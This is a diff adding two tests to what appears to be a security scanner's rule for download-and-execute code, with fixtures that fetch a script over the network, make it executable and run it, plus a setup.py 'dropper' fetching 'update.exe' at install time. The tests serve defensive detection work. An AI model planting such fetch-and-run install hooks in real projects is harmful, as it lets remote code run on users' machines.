@@ -97,3 +97,34 @@ def test_build_script_fetching_an_archive_and_running_a_build_is_not_linked() ->
         "    subprocess.check_call(['ninja'], cwd='build')\n"
     )
     assert run(RULES, py(source, path="acme/tools/make.py", stage=Stage.RUNTIME)) == []
+
+
+def test_a_tool_fetched_from_one_fixed_https_address_is_high_not_critical() -> None:
+    template = (
+        "import os, subprocess, urllib.request\n"
+        "def flamegraph(out):\n"
+        "    tmp = '/tmp/flamegraph.pl'\n"
+        "    urllib.request.urlretrieve('{url}', tmp)\n"
+        "    os.chmod(tmp, 0o755)\n"
+        "    subprocess.run([tmp, out])\n"
+    )
+
+    def severity(url: str) -> list[Severity]:
+        found = run(RULES, py(template.format(url=url), stage=Stage.RUNTIME))
+        return [f.severity for f in found if f.rule == "PV-DL-002"]
+
+    assert severity("https://tools.example/flamegraph.pl") == [Severity.HIGH]
+    assert severity("http://tools.example/flamegraph.pl") == [Severity.CRITICAL]
+    assert severity("https://203.0.113.7/flamegraph.pl") == [Severity.CRITICAL]
+
+
+def test_an_address_ending_in_dot_com_is_not_a_program_name() -> None:
+    source = (
+        "import urllib.request\n"
+        "AUTHOR = 'support@example.com'\n"
+        "def build_wheel(directory):\n"
+        "    urllib.request.urlretrieve('https://files.example/' + AUTHOR, directory + '/x.whl')\n"
+    )
+    assert "PV-DL-002" not in ids(run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL)))
+    dropper = source.replace("'support@example.com'", "'update.exe'")
+    assert "PV-DL-002" in ids(run(RULES, py(dropper, path="demo-1.0/setup.py", stage=Stage.INSTALL)))
